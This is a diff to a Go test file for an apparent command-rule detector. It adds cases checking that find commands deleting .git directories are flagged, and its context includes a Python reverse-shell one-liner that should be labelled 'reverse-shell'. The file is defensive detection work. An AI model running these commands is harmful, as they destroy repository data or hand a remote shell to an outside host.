@@ -56,6 +56,23 @@ func TestGroupsThatWriteDoNotEmpty(t *testing.T) {
 	}
 }
 
+func TestWhatFindIsToldToDelete(t *testing.T) {
+	for line, git := range map[string]bool{
+		"find . -name .git -exec rm -rf {} +":                                                  true,
+		"find . -name .git -type d -prune -exec rm -rf {} +":                                   true,
+		"find . -name .git -type d | xargs rm -rf":                                             true,
+		"find . -name .git -delete":                                                            true,
+		"find . -name .git -prune -o -name '*.orig' -delete":                                   false,
+		`find . \( -name .git -o -name node_modules \) -prune -o -name '*.orig' -exec rm {} +`: false,
+		"find . -not -name .git -name '*.orig' -delete":                                        false,
+		"find . -name '*.orig' -delete":                                                        false,
+	} {
+		if got := strings.Contains(rulesOf(line), "delete-git-directory"); got != git {
+			t.Errorf("%s: deletes .git %v, want %v", line, got, git)
+		}
+	}
+}
+
 func TestCodeThatConnects(t *testing.T) {
 	for line, want := range map[string]string{
 		`python3 -c 'import socket,os;s=socket.socket();s.connect(("203.0.113.9",1));os.dup2(s.fileno(),0)'`: "reverse-shell",
